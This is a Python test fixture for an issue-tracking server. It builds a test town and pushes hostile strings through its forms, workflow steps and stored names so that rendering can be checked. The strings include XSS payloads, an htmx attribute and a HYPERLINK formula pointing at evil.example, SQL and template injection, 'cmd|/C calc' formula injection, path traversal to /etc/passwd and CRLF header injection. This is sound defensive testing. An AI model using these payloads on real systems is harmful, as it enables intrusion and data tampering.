"""A town in which every word anybody could type is hostile.

What a form would refuse is written past it: what once got in another way must be shown safely too.
"""

from contextlib import suppress
from datetime import timedelta

from sqlalchemy import select

from server.clock import system_clock
from server.errors import ServerError
from server.models import (
    Area,
    CalendarDay,
    CalendarYear,
    CategoryEdit,
    Department,
    Person,
    SavedView,
    SignedIn,
    Token,
)
from server.services import cares, gazetteer, intake, issues, visits
from server.services.cares import NewCare
from server.services.drafts import LIMITS, Draft
from server.services.gazetteer import NewPlace
from server.services.visits import NewVisit
from server.uids import uuid7
from server.upgrade import upgrade
from server.workflow import WorkflowError
from tests.browser.serving import store_in
from tests.personas import build_town

RUN = "window.__hit=(window.__hit||0)+1"
TEXTS = {
    "element": f"<script>{RUN}</script><img src=x onerror={RUN}>",
    "attribute": f'" autofocus onfocus="{RUN}" onmouseover="{RUN}" x="',
    "other quotes": f"' autofocus onfocus='{RUN}' x='",
    "string of a script": f"';{RUN};//\";{RUN};//\\",
    "template literal": f"${{{RUN}}}`;{RUN};`${{{RUN}}}",
    "block of JSON": f"</script><script>{RUN}</script>\u2028\u2029<!--",
    "drawing": f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    "address": f"javascript:{RUN}//%0a{RUN}",
    "style": "</style><style>*{display:none!important}</style>;}*{color:expression(1)}",
    "closing everything": "--></title></textarea></select></template></table></div></main></body>",
    "markup of the kit": f'<a hx-on:load="{RUN}" hx-get="//evil.example/" hx-trigger="load">x</a>',
    "database": "'); DROP TABLE issue; -- \" OR 1=1",
    "template": "{{7*191}}{% for x in ().__class__.__mro__ %}x{% endfor %}{# #}",
    "words with places": "%(number)s {number} {0.__class__} {value!r} %s %n",
    "formula": '=HYPERLINK("//evil.example","x")',
    "another formula": "+cmd|' /C calc'!A0",
    "one more formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd\\..\\..%2e%2e%2f",
    "header": "x\r\nSet-Cookie: hit=1\r\n\r\n<b>",
    "direction": "\u202etxt.exe\u202c \u2066\u200f\u061c هذا \u2069",
    "nothing to see": "\u200b\u200d\ufeff\u2060零\u00ad宽",
    "marks": "Z" + "\u0351\u036b\u0343\u0325" * 12 + "𠮷👨‍👩‍👧‍👦",
    "no break": "W" * 3000,
    "long": "很长的一句话，" * 400,
    "nought": "a\x00b",
    "half a character": "a\ud800b",
}
NAMES_OF_REPORTERS = [TEXTS[name] for name in ("element", "attribute", "template literal", "block of JSON")]
SHORT = TEXTS["element"] + TEXTS["template literal"]


def fit(text, limit):
    return text[:limit]


def kept(store, work):
    """Do something in a transaction of its own; tell whether it was taken."""
    with suppress(ServerError, WorkflowError, UnicodeError), store.write() as tx:
        work(tx)
        return True
    return False


def report(store, town, place, text):
    """Report an issue of this text in all its fields, of those at least that take it; gives its number."""
    fields = {name: fit(text, LIMITS[name]) for name in
              ("description", "place_text", "reporter_name", "reporter_phone", "external_number") if name in LIMITS}  # fmt: skip
    fields["reporter_name"] = "王芳"  # else it is masked in the words
    spot = {"lon": 122.0112 + place % 5 / 1000, "lat": 37.0112 + place // 5 / 1000}
    taken = []

    def write(given):
        def work(tx):
            taken.append(
                intake.report(
                    tx, town.actors["dispatcher_qian"], Draft("heating", "phone", **spot, **given)
                ).number
            )

        return work

    if not kept(store, write(fields)):
        for name, said in fields.items():
            kept(store, write({"description": "有一处写不进"} | {name: said}))
    return taken


def report_names(store, town):
    """Report issues whose reporters have hostile names; gives their numbers."""
    with store.write() as tx:
        drafts = [Draft("heating", "phone", "暖气不热", lon=122.0112, lat=37.0112, reporter_name=fit(name, LIMITS["reporter_name"]))
                  for name in NAMES_OF_REPORTERS]  # fmt: skip
        return [one.number for one in intake.report_many(tx, town.actors["dispatcher_qian"], drafts)]


def act_on(store, town, numbers):
    """Say every text in every step of the loop that takes words."""
    day = (system_clock() + timedelta(days=3)).strftime("%Y-%m-%d")
    one, two, three, four = numbers[:4]
    steps = [(one, "worker_lin", "take", {})]
    steps += [(one, "worker_lin", "note", {"text": text}) for text in TEXTS.values()]
    steps += [(one, "worker_lin", "ask_extend", {"until": day, "reason": SHORT}),
              (one, "worker_lin", "whistle", {"departments": ["heating"], "answer_by": day, "matter": SHORT}),
              (one, "handler_sun", "answer", {"result": "done", "text": SHORT}),
              (one, "supervisor_li", "supervise", {"text": SHORT}),
              (two, "worker_lin", "take", {}),
              (two, "worker_lin", "ask_suspend", {"review_date": day, "reason": SHORT, "told": SHORT}),
              (three, "worker_lin", "take", {}),
              (three, "worker_lin", "finish", {"outcome": SHORT, "quantity": 1, "unit": SHORT[:8]}),
              (four, "worker_lin", "return", {"reason": SHORT}),
              (four, "dispatcher_qian", "reject", {"reason": SHORT, "told": SHORT})]  # fmt: skip
    return sum(kept(store, lambda tx, step=step: issues.act(tx, town.actors[step[1]], step[0], step[2], step[3]))
               for step in steps)  # fmt: skip


def look_in_on(store, town):
    """Say every text in visits and of people who are looked in on."""
    worker, today = town.actors["worker_lin"], system_clock().date()
    for place, text in enumerate(TEXTS.values()):
        spot = (122.0112 + place % 5 / 1000, 37.0112 + place // 5 / 1000)
        where, said = fit(text, visits.LENGTHS["where"]), fit(text, visits.LENGTHS["text"])
        visit = NewVisit(uuid7(system_clock()), "daily", "household", "issue", where, said, spot)
        care = NewCare(
            uuid7(system_clock()), "alone", 7, fit(text, 20), fit(text, 60), fit(text, 60), today, spot
        )
        kept(store, lambda tx, visit=visit: visits.record(tx, worker, visit))
        kept(store, lambda tx, care=care: cares.agree(tx, worker, care))


def rename(store):
    """Give everything that has a name a hostile one, past every form."""
    texts = [
        text for name, text in TEXTS.items() if name not in ("nought", "half a character", "no break", "long")
    ]
    with store.write() as tx:
        rows = [
            *tx.session.scalars(select(Area)),
            *tx.session.scalars(select(Person)),
            *tx.session.scalars(select(Department)),
        ]
        for place, row in enumerate(rows):
            row.name = fit(texts[place % len(texts)], 30)
        first = tx.session.scalars(select(Person.id).where(Person.login == "supervisor_li")).one()
        for place, text in enumerate(texts):
            tx.session.add(SavedView(person_id=first, name=fit(text, 30), query={"q": fit(text, 30)}))
            tx.session.add(
                Token(
                    person_id=first,
                    name=fit(text, 30),
                    digest=f"{place:064d}",
                    scopes="read",
                    created_at=tx.now,
                )
            )
        tx.session.add(
            CategoryEdit(code="dogs", row={"name": fit(SHORT, 40), "group": fit(TEXTS["attribute"], 40)})
        )
        later = {"created_at": tx.now, "seen_at": tx.now, "expires_at": tx.now + timedelta(days=1)}
        for place, text in enumerate(texts):
            tx.session.add(SignedIn(digest=f"{place:064d}", person_id=first, method="password", address="192.0.2.1",
                                    agent=fit("Chrome/120 Windows " + text, 200), **later))  # fmt: skip
        year = system_clock().year
        tx.session.add(CalendarYear(year=year, file_name=SHORT, at=tx.now))
        tx.session.add(CalendarDay(day=system_clock().date(), kind="holiday", name=fit(SHORT, 64)))
        gazetteer.keep(tx, [NewPlace(str(n), "甲" + text[:40], "building", text[:80], 122.013 + n / 1e4, 37.013)
                            for n, text in enumerate(texts)])  # fmt: skip


def build(folder):
    """Build the town in a folder; gives the numbers of its issues, a worker's uid and the number of a token."""
    with store_in(folder) as store:
        upgrade(store)
        town = build_town(store)
        numbers = [
            number for place, text in enumerate(TEXTS.values()) for number in report(store, town, place, text)
        ]
        assert len(numbers) >= len(TEXTS) - 2
        assert act_on(store, town, numbers) >= len(TEXTS)
        numbers += report_names(store, town)
        look_in_on(store, town)
        rename(store)
        with store.read() as tx:
            uid = tx.session.scalar(select(Person.uid).where(Person.login == "worker_lin"))
            token = tx.session.scalar(select(Token.id).where(Token.digest == "0" * 64))
    return numbers, uid, token
